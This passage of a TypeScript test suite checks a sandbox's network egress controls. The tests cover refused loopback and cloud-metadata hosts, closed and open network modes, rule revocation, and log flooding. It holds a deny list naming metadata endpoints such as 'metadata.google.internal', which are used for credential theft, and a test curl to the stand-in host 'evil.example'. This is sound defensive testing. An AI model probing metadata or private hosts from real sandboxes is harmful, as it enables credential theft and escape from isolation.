  await box.changeNetwork({ allow: names.map((host) => ({ host, ports: [port], private: true })) as never })
  assert.match(await straight('127.0.0.1', port), /^HTTP\/1\.1/, 'the control')
  await internet.forget()
  for (const host of ['127.0.0.1', 'localhost', MACHINE.v4, '[::1]', '[::ffff:127.0.0.1]', ...names]) {
    for (const [way, outcome] of Object.entries(await every(host, port)))
      assert.ok(
        /^\(|^socks refused|X-AgentPod-Refused/.test(outcome) || outcome === '',
        `${host} by ${way}: ${outcome.slice(0, 200)}`,
      )
  }
  await box.changeNetwork({ forget: names })
})

attack('LK-08 the egress process has neither keys nor addresses of proxies in its command line', async () => {
  const commands = readFileSync(`/proc/${egressPid()}/cmdline`, 'utf8').split('\0')
  assert.ok(
    commands.some((word) => word.endsWith('egress.sock')),
    'the control',
  )
  assert.doesNotMatch(commands.join(' '), /:\/\/|PRIVATE KEY|CERTIFICATE/)
})

attack('with --net off nothing leaves, and the refusals say why', async () => {
  await world.ok(['create', '--name', 'closed', '--net', 'off'])
  const closed = await client.get('closed')
  for (const host of ['site.example', SITE, EVIL, METADATA[0], MACHINE.v4]) {
    const outcomes = await every(host, 80, closed)
    assertRefused(outcomes, host)
    assert.match(outcomes.get, /no network|^\(/, outcomes.get)
  }
  assert.deepEqual(internet.network.all, [], 'no question either')
  assert.match((await every('site.example')).get, REACHED, 'the control: another sandbox')
  await closed.destroy()
})

attack(
  'with --net open public names are reached; what is private, of the machine or denied is not; and all is written down',
  async () => {
    await world.ok(['create', '--name', 'wide', '--net', 'open', '--deny', 'other.example'])
    const wide = await client.get('wide')
    for (const host of ['site.example', 'evil.example', EVIL])
      assertReached(await every(host, 80, wide), host)
    assert.match(await shell(wide, 'curl -sS https://evil.example/'), REACHED)
    await internet.forget()
    const refused = [
      'other.example',
      'internal.example',
      'lan.example',
      'loop.example',
      'own.example',
      'meta.example',
      'in-hosts.example',
      'metadata.google.internal',
      'printer',
      METADATA[0],
      PRIVATE_SITE,
      MACHINE.v4,
      '127.0.0.1',
    ]
    for (const host of refused) assertRefused(await every(host, 80, wide), host)
    assertRefused(await every('site.example', 22, wide), 'another port')
    await assertSilence('an open network')
    assert.deepEqual(internet.network.at(OTHER_SITE), [])
    const log = await logged(wide)
    for (const host of refused.filter((one) => one !== '127.0.0.1'))
      assert.ok(
        log.some((one) => one['host'] === host && one['verdict'] === 'denied'),
        `${host} is in the log`,
      )
    for (const host of ['site.example', 'evil.example', EVIL])
      assert.ok(
        log.some((one) => one['host'] === host && one['verdict'] === 'allowed'),
        `${host} is in the log`,
      )
    await wide.destroy()
  },
)

attack(
  'NET-5 a new rule opens at once, and removing it closes open connections within five seconds',
  async () => {
    for (const scheme of ['http', 'https']) {
      const url = `${scheme}://late.example`
      assert.doesNotMatch(await shell(box, `curl -sS ${url}/`), REACHED, 'before')
      await world.ok(['allow', 'box', 'late.example'])
      assert.match(await shell(box, `curl -sS ${url}/`), REACHED, `${scheme}: opened`)
      const drip = box.exec('curl', { args: ['-sSN', '-m', '30', `${url}/drip?count=1000&every=50`] })
      let drops = 0
      const reading = (async () => {
        for await (const { data } of drip.output()) drops += data.toString().split('drop').length - 1
      })()
      await until('it drips', () => drops > 5)
      const at = performance.now()
      await world.ok(['allow', '--forget', 'box', 'late.example'])
      await reading
      assert.ok(performance.now() - at < 5000, `${scheme}: cut after ${performance.now() - at} ms`)
      assert.notEqual(drip.exit.exitCode, 0)
      assert.doesNotMatch(await shell(box, `curl -sS ${url}/`), REACHED, 'afterwards')
    }
  },
)

attack('NET-7 five thousand denials fill neither the disk nor the log', async () => {
  const flooder = await client.create({ name: 'flooder', network: { allow: ['site.example'] } })
  const sizeOf = (): number => {
    const files = ['events.db', 'events.db-wal', 'logs/server.log', 'logs/egress.log', 'logs/podhost.log']
    const sizes = files.map((name) => quietly(() => statSync(join(world.home, name)).size) ?? 0)
    return sizes.reduce((sum, size) => sum + size, 0)
  }
  const earlier = sizeOf()
  const made = await flood(flooder, 5_000)
  assert.ok(made >= 5_000, `the control: ${made} were tried`)
  assert.ok(sizeOf() - earlier < 16 << 20, `${sizeOf() - earlier} bytes were written`)
  const lines = (await world.ok(['net', 'log', '--json', 'flooder'])).trimEnd().split('\n')
  assert.ok(lines.length > 10 && lines.length < 2000, `${lines.length} lines`)
  assert.match((await every('site.example', 80, box)).get, REACHED, 'another sandbox is served')
  assert.ok(isAlive(world.serverPid) && existsSync(join(world.home, 'run', 'egress.sock')))
  await flooder.destroy()
})
